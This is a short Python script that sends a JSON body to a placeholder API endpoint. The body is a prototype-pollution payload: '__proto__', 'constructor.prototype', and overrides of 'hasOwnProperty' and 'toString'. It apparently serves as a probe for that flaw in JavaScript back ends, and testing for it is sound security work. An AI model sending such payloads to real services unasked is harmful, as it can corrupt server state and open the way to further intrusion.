import requests

url = "https://api.example.com/json"
payload = {
    "__proto__": {
        "polluted": True,
    },
    "constructor": {
        "prototype": {
            "x": 1,
        },
    },
    "hasOwnProperty": 1,
    "toString": "text",
}

response = requests.post(url, json=payload)
response.raise_for_status()
print(response.text)
